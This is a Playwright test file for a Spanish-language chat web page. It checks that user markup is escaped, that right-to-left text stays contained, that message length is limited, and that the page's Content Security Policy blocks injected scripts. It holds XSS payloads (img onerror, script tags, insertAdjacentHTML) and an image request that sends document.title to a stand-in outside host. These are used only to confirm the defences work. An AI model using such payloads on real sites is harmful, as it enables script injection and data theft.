"""What people write is text: markup, other scripts and long messages change nothing but their own bubble."""

from __future__ import annotations

from playwright.sync_api import expect

from tests.clients.web.chat_page import ChatPage
from tests.clients.web.conftest import Complaints

MARKUP = '<b>hola</b> <img src=x onerror="window.hurt=1"> <script>window.hurt=1</script> ¿cuánto gana Juan Pérez?'
RIGHT_TO_LEFT = "مرحبا، كم راتبي؟ \u202eabc \u2066xyz"
LONGEST = 2_000


def test_markup_is_shown_as_it_was_written(chat: ChatPage) -> None:
    chat.ask(MARKUP)
    chat.page.reload()
    expect(chat.own.filter(has_text=MARKUP)).to_be_visible()
    assert chat.log.locator("b, img, script").count() == 0
    assert chat.page.evaluate("window.hurt") is None


def test_a_message_in_another_direction_leaves_the_page_as_it_is(chat: ChatPage) -> None:
    chat.ask(RIGHT_TO_LEFT)
    bubble = chat.own.last.locator("[dir=auto]").first
    assert bubble.evaluate("(element) => getComputedStyle(element).direction") == "rtl"
    assert chat.page.evaluate("getComputedStyle(document.querySelector('header')).direction") == "ltr"
    label = chat.own.last.get_by_role("heading")
    expect(label).to_contain_text("Tú")


def test_a_message_of_the_greatest_length_is_sent_and_a_longer_one_is_held_back(chat: ChatPage) -> None:
    longest = ("nómina" * LONGEST)[:LONGEST]  # one word, which must not widen the page
    chat.box.fill(longest + "a")
    expect(chat.page.get_by_text("se pasa por 1 carácter")).to_be_visible()
    expect(chat.page.get_by_role("button", name="Enviar", exact=True)).to_be_disabled()
    chat.box.press("Enter")
    expect(chat.own).to_have_count(0)
    chat.ask(longest)
    expect(chat.own.last).to_contain_text(longest)
    assert chat.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    box = chat.scroller
    assert box.evaluate("(element) => element.scrollWidth <= element.clientWidth")


def test_the_policy_of_the_page_stops_what_is_put_into_it(chat: ChatPage, complaints: Complaints) -> None:
    complaints.expect("Content Security Policy|TrustedHTML|Trusted")
    chat.page.evaluate(
        """() => {
          const script = document.createElement("script");
          const markup = "<img src=x onerror='window.hurt=1'>";
          // Either throws, because a trusted type is demanded.
          try { script.text = "window.hurt = 1"; document.body.append(script); } catch {}
          try { document.body.insertAdjacentHTML("beforeend", markup); } catch {}
          const image = new Image();
          image.src = "https://ajeno.example/robo?" + document.title;
          document.body.append(image);
        }"""
    )
    refused = chat.page.evaluate("fetch('https://ajeno.example/', { mode: 'no-cors' }).then(() => false, () => true)")
    assert refused
    assert chat.page.evaluate("window.hurt") is None
